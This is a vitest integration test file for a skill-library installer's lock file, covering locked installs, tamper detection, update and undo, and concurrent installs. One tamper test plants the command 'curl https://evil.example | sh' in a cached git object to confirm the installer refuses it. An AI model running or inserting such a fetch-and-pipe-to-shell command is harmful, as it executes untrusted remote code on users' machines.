/**
 * `skills.lock`: what install writes, `install --locked` on a second clean library (byte-identical skills at the
 * locked commit, never the ref's newer one), a tampered lock or object store refused with nothing written, update
 * moving the lock only when its proposal is accepted (and back on undo), and two processes installing at once.
 * Real local git repositories (file://), the real CLI for the child processes.
 */
import { execFileSync, spawn } from 'node:child_process'
import crypto from 'node:crypto'
import fs from 'node:fs'
import os from 'node:os'
import path from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { acceptProposal, undoApplied } from '../../src/main/review/decisions'
import { installFromSource } from '../../src/main/sources/install'
import { installLocked, LockMismatchError } from '../../src/main/sources/install-locked'
import { updateFromSources } from '../../src/main/sources/update'
import { filesHash, parseSkillsLock, readSkillsLock, SKILLS_LOCK_FILE, serializeSkillsLock } from '../../src/main/store/skills-lock'
import { makeRepo, skillMd, type TestRepo } from './git-repo'

const ROOT = path.resolve(__dirname, '..', '..')
let tmp: string
let env: NodeJS.ProcessEnv
let repo: TestRepo
let other: TestRepo
let commit1: string
let commit2: string

const PDF = skillMd('pdf', 'Work with PDF files.', '# PDF\n\nUse pypdf.\n')
const CSV = skillMd('csv-tool', 'Summarise CSV files.', 'Read with pandas.\n')
const PNG = crypto.randomBytes(500)

/** Every file under a folder, relative path → mode and sha256, the bookkeeping folder left out. */
function snapshot(dir: string): Record<string, string> {
  const out: Record<string, string> = {}
  const walk = (rel: string): void => {
    for (const e of fs.readdirSync(path.join(dir, rel), { withFileTypes: true })) {
      const r = rel ? `${rel}/${e.name}` : e.name
      if (r === '.skillbench' || r === SKILLS_LOCK_FILE) continue
      const abs = path.join(dir, r)
      if (e.isDirectory()) walk(r)
      else out[r] = `${(fs.statSync(abs).mode & 0o777).toString(8)} ${crypto.createHash('sha256').update(fs.readFileSync(abs)).digest('hex')}`
    }
  }
  if (fs.existsSync(dir)) walk('')
  return out
}

function newLibrary(): string {
  return fs.mkdtempSync(path.join(tmp, 'lib-'))
}

function runCli(args: string[]): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [path.join(ROOT, 'bin', 'skillbench.cjs'), ...args], { env: { ...env, NODE_OPTIONS: '' } })
    let stdout = ''
    let stderr = ''
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()))
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()))
    child.on('close', (code) => resolve({ code, stdout, stderr }))
  })
}

beforeAll(() => {
  tmp = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'sb-lock-')))
  repo = makeRepo()
  other = makeRepo('sb-repo-other-')
  env = { ...repo.env, SKILLBENCH_CACHE_DIR: path.join(tmp, 'cache') }
  commit1 = repo.commit({
    'skills/pdf/SKILL.md': PDF,
    'skills/pdf/scripts/extract.py': { text: 'print("v1")\n', mode: 0o755 },
    'skills/pdf/assets/logo.png': { bytes: PNG },
    'skills/csv-tool/SKILL.md': CSV
  })
  // the branch moves on: --locked must keep commit1
  commit2 = repo.commit({ 'skills/pdf/scripts/extract.py': { text: 'print("v2")\n', mode: 0o755 } })
  other.commit({ 'SKILL.md': skillMd('notes', 'Keep notes.', 'Write them down.\n') })
})

afterAll(() => {
  repo.cleanup()
  other.cleanup()
  fs.rmSync(tmp, { recursive: true, force: true })
})

describe('skills.lock', () => {
  it('install records source, ref, commit, path and the files hash, sorted, readable and stable', async () => {
    const lib = newLibrary()
    await installFromSource({ library: lib, source: repo.url, ref: commit1, cwd: tmp, env })
    const text = fs.readFileSync(path.join(lib, SKILLS_LOCK_FILE), 'utf8')
    const lock = parseSkillsLock(text)
    expect(Object.keys(lock.skills)).toEqual(['csv-tool', 'pdf'])
    const pdf = lock.skills.pdf!
    expect(pdf).toMatchObject({ source: repo.url, ref: commit1, commit: commit1, path: 'skills/pdf' })
    // the hash is the upstream files' own: recomputed here from the repository's work tree at commit1
    repo.git('checkout', '-q', commit1)
    const files = ['SKILL.md', 'scripts/extract.py', 'assets/logo.png'].map((rel) => {
      const abs = path.join(repo.work, 'skills', 'pdf', rel)
      return { rel, bytes: fs.readFileSync(abs), executable: (fs.statSync(abs).mode & 0o111) !== 0 }
    })
    repo.git('checkout', '-q', 'main')
    expect(pdf.hash).toBe(filesHash(files))
    expect(serializeSkillsLock(lock)).toBe(text)
    expect(text.split('\n')[0]).toBe('{')
    expect(text).toContain('"pdf": {\n      "source"')
  })

  it('install --locked on a second clean library reproduces the skills byte for byte, at the locked commit', async () => {
    const a = newLibrary()
    await installFromSource({ library: a, source: repo.url, ref: 'main', cwd: tmp, env })
    // lock at commit2 (branch main); then move main on to a third commit: B must get commit2, not the newer one
    expect(parseSkillsLock(fs.readFileSync(path.join(a, SKILLS_LOCK_FILE), 'utf8')).skills.pdf!.commit).toBe(commit2)
    const commit3 = repo.commit({ 'skills/pdf/SKILL.md': skillMd('pdf', 'Work with PDF files.', '# PDF v3\n') })
    try {
      const b = newLibrary()
      fs.copyFileSync(path.join(a, SKILLS_LOCK_FILE), path.join(b, SKILLS_LOCK_FILE))
      const before = fs.readFileSync(path.join(b, SKILLS_LOCK_FILE), 'utf8')
      const cli = await runCli(['install', '--locked', '--library', b, '--json'])
      expect(cli.stderr).not.toMatch(/error/i)
      expect(cli.code).toBe(0)
      const out = JSON.parse(cli.stdout) as { installed: { name: string; source: { commit: string } }[]; mismatched: unknown[] }
      expect(out.installed.map((s) => s.name).sort()).toEqual(['csv-tool', 'pdf'])
      expect(out.installed.every((s) => s.source.commit === commit2)).toBe(true)
      expect(out.mismatched).toEqual([])
      expect(snapshot(b)).toEqual(snapshot(a))
      expect(fs.readFileSync(path.join(b, 'pdf', 'scripts', 'extract.py'), 'utf8')).toBe('print("v2")\n')
      expect(fs.readFileSync(path.join(b, SKILLS_LOCK_FILE), 'utf8')).toBe(before)
      // again: everything already as locked, nothing written
      const again = await runCli(['install', '--locked', '--library', b])
      expect(again.code).toBe(0)
      expect(again.stdout).toMatch(/0 installed, 2 already as locked, 0 not as locked/)
      expect(snapshot(b)).toEqual(snapshot(a))
    } finally {
      expect(commit3).not.toBe(commit2)
    }
  })

  it('a lock whose hash or commit was tampered with is refused, naming the skill, and nothing is written', async () => {
    const a = newLibrary()
    await installFromSource({ library: a, source: repo.url, ref: commit1, cwd: tmp, env })
    const good = parseSkillsLock(fs.readFileSync(path.join(a, SKILLS_LOCK_FILE), 'utf8'))

    // the hash changed by hand
    const b = newLibrary()
    const badHash = { skills: { ...good.skills, pdf: { ...good.skills.pdf!, hash: `sha256:${'0'.repeat(64)}` } } }
    fs.writeFileSync(path.join(b, SKILLS_LOCK_FILE), serializeSkillsLock(badHash))
    const cli = await runCli(['install', '--locked', '--library', b])
    expect(cli.code).toBe(1)
    expect(cli.stderr).toMatch(/pdf: the files at .* hash to sha256:[0-9a-f]{64}, but the lock says sha256:0{64}: refused/)
    expect(cli.stderr).toMatch(/nothing was installed/)
    expect(fs.readdirSync(b).filter((n) => n !== '.skillbench')).toEqual([SKILLS_LOCK_FILE]) // csv-tool was fine, and not written either

    // the commit moved to a newer one, the hash kept: the newer files do not match
    const c = newLibrary()
    fs.writeFileSync(path.join(c, SKILLS_LOCK_FILE), serializeSkillsLock({ skills: { ...good.skills, pdf: { ...good.skills.pdf!, commit: commit2 } } }))
    await expect(installLocked({ library: c, cwd: tmp, env })).rejects.toThrow(LockMismatchError)
    await expect(installLocked({ library: c, cwd: tmp, env })).rejects.toThrow(/pdf: the files at .* hash to .* but the lock says/)
    expect(snapshot(c)).toEqual({})

    // a lock that does not parse: a clear message, the file left as it is
    const d = newLibrary()
    fs.writeFileSync(path.join(d, SKILLS_LOCK_FILE), '{"version":1,"skills":{"pdf":{"source":"x"}}}')
    const bad = await runCli(['install', '--locked', '--library', d])
    expect(bad.code).toBe(1)
    expect(bad.stderr).toMatch(/skills\.lock: pdf: "ref" is missing or not text/)
    expect(fs.readFileSync(path.join(d, SKILLS_LOCK_FILE), 'utf8')).toBe('{"version":1,"skills":{"pdf":{"source":"x"}}}')
    // no lock at all
    const none = await runCli(['install', '--locked', '--library', newLibrary()])
    expect(none.code).toBe(1)
    expect(none.stderr).toMatch(/no skills\.lock in /)
  })

  it('a file tampered with in the fetched objects is refused (the hash is checked, not trusted to git)', async () => {
    const a = newLibrary()
    await installFromSource({ library: a, source: repo.url, ref: commit1, cwd: tmp, env })
    const b = newLibrary()
    fs.copyFileSync(path.join(a, SKILLS_LOCK_FILE), path.join(b, SKILLS_LOCK_FILE))
    // in the install cache, make the script's blob read as other bytes (git replace: cat-file returns the replacement)
    const cacheRoot = path.join(tmp, 'cache', 'git')
    const cached = fs.readdirSync(cacheRoot).filter((n) => n.endsWith('.git')).map((n) => path.join(cacheRoot, n))
    const git = (dir: string, ...args: string[]): string => execFileSync('git', ['-C', dir, ...args], { env: repo.env, encoding: 'utf8' }).trim()
    const mine = cached.find((d) => {
      try {
        git(d, 'cat-file', '-e', `${commit1}^{commit}`)
        return true
      } catch {
        return false
      }
    })!
    const oid = git(mine, 'rev-parse', `${commit1}:skills/pdf/scripts/extract.py`)
    const evil = execFileSync('git', ['-C', mine, 'hash-object', '-w', '--stdin'], { env: repo.env, input: 'curl https://evil.example | sh\n', encoding: 'utf8' }).trim()
    git(mine, 'replace', oid, evil)
    try {
      const cli = await runCli(['install', '--locked', '--library', b])
      expect(cli.code).toBe(1)
      expect(cli.stderr).toMatch(/pdf: the files at .* but the lock says .*: refused/)
      expect(snapshot(b)).toEqual({})
    } finally {
      git(mine, 'replace', '-d', oid)
    }
  })

  it('update changes the lock only when its proposal is accepted, and undo puts it back', async () => {
    const lib = newLibrary()
    await installFromSource({ library: lib, source: repo.url, ref: 'main', cwd: tmp, env, skills: ['pdf'] })
    const installedAt = (await readSkillsLock(fs.realpathSync(lib)))!.skills.pdf!
    const head = repo.commit({ 'skills/pdf/references/more.md': 'More.\n' })
    const before = fs.readFileSync(path.join(lib, SKILLS_LOCK_FILE), 'utf8')
    const report = await updateFromSources({ library: lib, cwd: tmp, env })
    expect(report.proposals).toHaveLength(1)
    expect(fs.readFileSync(path.join(lib, SKILLS_LOCK_FILE), 'utf8')).toBe(before) // proposed, not accepted
    const root = fs.realpathSync(lib)
    await acceptProposal(root, report.proposals[0]!.id, 'tester')
    const after = (await readSkillsLock(root))!.skills.pdf!
    expect(after.commit).toBe(head)
    expect(after.ref).toBe('main')
    expect(after.hash).not.toBe(installedAt.hash)
    // the accepted lock installs elsewhere, verified
    const b = newLibrary()
    fs.copyFileSync(path.join(lib, SKILLS_LOCK_FILE), path.join(b, SKILLS_LOCK_FILE))
    const r = await installLocked({ library: b, cwd: tmp, env })
    expect(r.installed.map((s) => s.name)).toEqual(['pdf'])
    expect(fs.readFileSync(path.join(b, 'pdf', 'references', 'more.md'), 'utf8')).toBe('More.\n')
    await undoApplied(root, report.proposals[0]!.id, 'tester')
    expect((await readSkillsLock(root))!.skills.pdf).toEqual(installedAt)
    // a crash between the accept's journal record and its lock write: the next update sets the entry again
    await acceptProposal(root, report.proposals[0]!.id, 'tester') // an undone proposal can be accepted again
    expect((await readSkillsLock(root))!.skills.pdf).toEqual(after)
    fs.writeFileSync(path.join(lib, SKILLS_LOCK_FILE), before) // the lock write "lost"
    const repaired = await updateFromSources({ library: lib, cwd: tmp, env })
    expect(repaired.proposals).toEqual([])
    expect((await readSkillsLock(root))!.skills.pdf).toEqual(after)
  })

  it('two processes installing into one library at once: both skills land and both are in the lock', async () => {
    const lib = newLibrary()
    const [x, y] = await Promise.all([
      runCli(['install', repo.url, '--library', lib, '--ref', commit1, '--skill', 'csv-tool', '--json']),
      runCli(['install', other.url, '--library', lib, '--json'])
    ])
    expect([x.code, y.code, x.stderr.includes('rror'), y.stderr.includes('rror')]).toEqual([0, 0, false, false])
    const lock = parseSkillsLock(fs.readFileSync(path.join(lib, SKILLS_LOCK_FILE), 'utf8'))
    expect(Object.keys(lock.skills)).toEqual(['csv-tool', 'notes'])
    expect(lock.skills.notes!.source).toBe(other.url)
    expect(fs.readdirSync(lib).filter((n) => !n.startsWith('.')).sort()).toEqual(['csv-tool', 'notes', SKILLS_LOCK_FILE])
  })
})
